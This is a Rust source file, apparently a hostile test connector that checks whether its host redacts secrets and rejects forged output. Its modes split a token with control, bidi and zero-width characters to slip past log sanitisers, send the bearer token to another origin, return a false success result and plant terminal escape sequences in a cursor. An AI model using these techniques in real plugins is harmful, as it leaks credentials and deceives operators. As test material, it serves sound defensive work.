//! Tries to get secrets and lies past the host, in the mode `config.mode` names:
//!
//! - `split`: prints its token split by controls, escapes, bidi and invisible characters in
//!   log messages, steps, details, rejected rows, stdout and its error.
//! - `numeric`: returns and logs a numeric secret as a JSON number.
//! - `bearer-elsewhere`: asks the host to send its token to `config.elsewhere`,
//!   another origin the operator allowed for plain requests.
//! - `liar`: returns a result that claims the envelope's own keys.
//! - `forge-views`: commits an opaque cursor full of line breaks and terminal escapes.
//! - `encoded`: sends `secrets.query_key` (every sign a query string encodes) to
//!   `config.echo_url` three ways — form-encoded by the host, as typed, and
//!   percent-encoded by hand in lowercase — with its bearer token; the API echoes
//!   both back in a body that is not UTF-8; the connector logs URL and body,
//!   sets the body aside as a rejected row (the URL its reason) and returns the last URL.

use nuntiq_connector::delta_state::{CursorType, DeltaRun};
use nuntiq_connector::log::Level;
use nuntiq_connector::{Guest, context, export_connector, get_config, http, log};

struct SecretSplitter;

/// Characters a sanitiser strips, each splitting the secret in two: controls,
/// an ANSI escape, bidi controls, and characters a terminal shows as nothing
/// (zero-width space, soft hyphen, word joiner, byte-order mark, variation
/// selector, tag letter).
const SPLITTERS: [&str; 11] = [
    "\u{7}",
    "\u{0}",
    "\u{1b}[31m",
    "\u{202e}",
    "\u{2066}",
    "\u{200b}",
    "\u{ad}",
    "\u{2060}",
    "\u{feff}",
    "\u{fe0f}",
    "\u{e0041}",
];

impl Guest for SecretSplitter {
    fn run() -> Result<String, String> {
        let own = get_config("connector_name").unwrap_or_default();
        match get_config("mode").unwrap_or_default().as_str() {
            "split" => {
                let run = hostile_kit::open_run();
                let secret = context::get_secret("acme_token").ok_or("no secret")?;
                let (head, tail) = secret.split_at(secret.len() / 2);
                let mut last = String::new();
                for splitter in SPLITTERS {
                    let split = format!("{head}{splitter}{tail}");
                    log::event(
                        Level::Warn,
                        &split,
                        &format!("token {split}"),
                        &serde_json::json!({ "t": split }),
                    );
                    // A rejected row is stored as it came: the split token must not be.
                    let _ = run.reject(&format!("row {split}"), &format!("reason {split}"));
                    println!("stdout {split}");
                    eprintln!("stderr {split}");
                    last = split;
                }
                Err(format!("giving up with {last}"))
            }
            "numeric" => {
                let account: u64 = context::get_secret("account")
                    .and_then(|s| s.parse().ok())
                    .ok_or("secrets.account is not a number")?;
                log::event(
                    Level::Info,
                    "numeric",
                    "the account",
                    &serde_json::json!({ "account": account }),
                );
                Ok(serde_json::json!({ "account": account, "nested": [account] }).to_string())
            }
            "bearer-elsewhere" => {
                let elsewhere = get_config("elsewhere").ok_or("config.elsewhere is required")?;
                let sent = http::get(format!("{elsewhere}/v2/suppliers"))
                    .bearer_secret("acme_token")
                    .send();
                match sent {
                    Ok(r) => Err(format!("the token went to {elsewhere}: HTTP {}", r.status)),
                    Err(e) => Err(format!("refused: {}", e.message())),
                }
            }
            "liar" => Ok(r#"{"success": true, "error": {"kind": "none"}, "fetched": 3}"#.into()),
            "forge-views" => {
                let run = DeltaRun::begin(&own, "forged", CursorType::OpaqueToken).map_err(|e| e.message())?;
                run.set_new_cursor("tok\n  status             succeeded\u{1b}[2J\u{1b}]0;pwned\u{7}\u{202e}dne")
                    .map_err(|e| e.message())?;
                run.complete().map_err(|e| e.message())?;
                Ok("{}".into())
            }
            "encoded" => {
                let key = context::get_secret("query_key").ok_or("no query_key")?;
                let echo = get_config("echo_url").ok_or("config.echo_url is required")?;
                let by_hand: String = key
                    .bytes()
                    .map(|b| match b {
                        b if b.is_ascii_alphanumeric() => (b as char).to_string(),
                        b => format!("%{b:02x}"),
                    })
                    .collect();
                let requests = [
                    http::get(echo.as_str()).query("key", &key),
                    http::get(format!("{echo}?key={key}")),
                    http::get(format!("{echo}?key={by_hand}")),
                ];
                // How many bytes of token and query came back: proof they did, where
                // the secrets themselves would be redacted.
                let mut echoed = Vec::new();
                let mut last = String::new();
                let run = DeltaRun::begin(&own, "echo", CursorType::OpaqueToken).map_err(|e| e.message())?;
                for request in requests {
                    let response = request.bearer_secret("acme_token").send().map_err(|e| e.message())?;
                    let body = String::from_utf8_lossy(&response.body).into_owned();
                    log::event(
                        Level::Info,
                        "echo",
                        &format!("{} answered {}: {body}", response.url, response.status),
                        &serde_json::json!({ "url": response.url, "body": body }),
                    );
                    let length_after = |label: &str| {
                        body.split_once(label)
                            .map_or(0, |(_, rest)| rest.split('\n').next().unwrap_or("").len())
                    };
                    echoed.push([length_after("authorization: Bearer "), length_after("query: ")]);
                    // Set aside as a bad row, with the URL as its reason.
                    run.reject(&body, &response.url).map_err(|e| e.message())?;
                    last = response.url;
                }
                run.fail("echoed").map_err(|e| e.message())?;
                Ok(serde_json::json!({ "echoed": echoed, "last_url": last }).to_string())
            }
            other => Err(format!("unknown mode {other:?}")),
        }
    }
}

export_connector!(SecretSplitter);
